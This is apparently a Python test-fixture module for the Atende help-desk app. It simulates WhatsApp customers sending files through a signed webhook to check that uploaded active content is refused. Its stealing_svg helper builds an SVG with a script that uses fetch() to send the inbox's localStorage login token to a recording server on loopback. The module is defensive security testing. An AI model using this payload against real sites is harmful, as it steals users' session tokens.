"""A WhatsApp Cloud customer sending files to a running ``atende demo`` (through the signed webhook,
against a loopback Graph API), a file kept as Atende kept it before active content was refused, and an
HTTP receiver that records what a stolen-token script would send it. The media tests build on these.
"""

from __future__ import annotations

import json
import uuid
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import httpx
from sqlalchemy import text as sql_text

from core.database import open_database
from core.settings import Settings
from tests.conftest import LiveServer, run_cli
from tests.fakes._loopback import HTTPRequest, LoopbackServer, Response
from tests.fakes.graph_api import FakeGraphAPI, document_message, image_message, inbound, sign, text_message
from tests.helpers import eventually, ticket_for

APP_SECRET = "media-tests-app-secret"
PNG = bytes.fromhex(
    "89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c4890000000d49444154789c63f8cfc0f0"
    "1f00050001ff89993d1d0000000049454e44ae426082"
)
"""A 1×1 PNG."""


def stealing_svg(receiver: str) -> bytes:
    """An SVG whose script sends the inbox's login token to ``receiver`` when it runs on Atende's origin."""
    return (
        '<svg xmlns="http://www.w3.org/2000/svg" width="200" height="80">'
        '<text x="10" y="40">comprovante</text><script>'
        "fetch('" + receiver + "/stolen?token=' + encodeURIComponent(localStorage.getItem('atende:token')),"
        " {mode: 'no-cors'});"
        "</script></svg>"
    ).encode()


class Receiver(LoopbackServer):
    """An attacker's server on 127.0.0.1: it records every path asked of it."""

    def __init__(self) -> None:
        super().__init__()
        self.paths: list[str] = []

    def respond(self, request: HTTPRequest) -> Response:
        with self._lock:
            self.paths.append(request.target)
        return Response(204)

    def heard(self) -> list[str]:
        with self._lock:
            return list(self.paths)


def add_whatsapp_channel(live_server: LiveServer, graph: FakeGraphAPI) -> str:
    added = run_cli(
        live_server.data_dir,
        *(
            "channel",
            "add",
            "--tenant",
            "demo",
            "--type",
            "whatsapp-cloud",
            "--name",
            f"files-{uuid.uuid4().hex[:6]}",
        ),
        *("--token", graph.access_token, "--app-secret", APP_SECRET, "--verify-token", "verify"),
        *("--phone-number-id", graph.phone_number_id, "--api-base", graph.base_url, "--json"),
    )
    assert added.returncode == 0, added.stderr
    return str(json.loads(added.stdout)["id"])


@dataclass
class FileSender:
    """One WhatsApp customer who asked for a human and then sends files into that ticket."""

    client: httpx.Client
    graph: FakeGraphAPI
    channel_id: str
    wa_id: str = field(default_factory=lambda: f"55119{uuid.uuid4().int % 10**8:08d}")
    sent: int = 0

    @property
    def name(self) -> str:
        return f"Cliente {self.wa_id[-6:]}"

    def post(self, message: dict[str, Any]) -> None:
        body = json.dumps(inbound(message, name=self.name)).encode()
        headers = {"Content-Type": "application/json", "X-Hub-Signature-256": sign(body, APP_SECRET)}
        response = self.client.post(
            f"/webhooks/whatsapp-cloud/{self.channel_id}", content=body, headers=headers
        )
        assert response.status_code == 200, response.text

    def _next_id(self) -> str:
        self.sent += 1
        return f"wamid.FILE{self.wa_id}{self.sent}"

    def asks_for_a_human(self, agent: dict[str, str]) -> str:
        """The ticket's id, once the hand-off opened it."""
        self.post(text_message("quero falar com um atendente", wa_id=self.wa_id, message_id=self._next_id()))
        return str(ticket_for(self.client, agent, self.name, timeout=90)["id"])

    def sends_document(self, data: bytes, mime_type: str, file_name: str) -> str:
        media_id = self.graph.add_media(data, mime_type, filename=file_name)
        document = document_message(
            media_id, filename=file_name, mime_type=mime_type, wa_id=self.wa_id, message_id=self._next_id()
        )
        self.post(document)
        return media_id

    def sends_image(self, data: bytes, mime_type: str) -> str:
        media_id = self.graph.add_media(data, mime_type)
        self.post(image_message(media_id, mime_type=mime_type, wa_id=self.wa_id, message_id=self._next_id()))
        return media_id


def message_with_file(
    client: httpx.Client, agent: dict[str, str], ticket_id: str, media_id: str
) -> dict[str, Any]:
    """The ticket's message carrying the file ``media_id``, once it was fetched or refused."""
    found: list[dict[str, Any]] = []

    def handled() -> bool:
        messages = client.get(f"/api/v1/tickets/{ticket_id}", headers=agent).json()["messages"]
        found[:] = [
            m
            for m in messages
            for a in (m.get("content") or {}).get("attachments", [])
            if a["file_id"] == media_id and (a.get("path") or a.get("rejected"))
        ]
        return bool(found)

    eventually(handled, timeout=60)
    return found[0]


async def keep_as_before(data_dir: Path, message_id: str, data: bytes, suffix: str) -> None:
    """The message's first file kept the way Atende kept it before active content was refused: in the
    media dir, named by the attachment, not marked refused (as files stored then still are)."""
    async with (
        open_database(Settings(data_dir=data_dir)) as database,
        database.sessionmaker.begin() as session,
    ):
        found = await session.execute(
            sql_text("SELECT tenant_id FROM messages WHERE id = :id"), {"id": uuid.UUID(message_id)}
        )
        path = f"{found.scalar_one()}/{uuid.uuid4().hex}{suffix}"
        target = data_dir / "media" / path
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_bytes(data)
        await session.execute(
            sql_text(
                "UPDATE messages SET content = jsonb_set(content, '{attachments,0}', "
                "((content->'attachments'->0) - 'rejected') || jsonb_build_object('path', CAST(:path AS text), "
                "'size', CAST(:size AS integer))) WHERE id = :id"
            ),
            {"id": uuid.UUID(message_id), "path": path, "size": len(data)},
        )
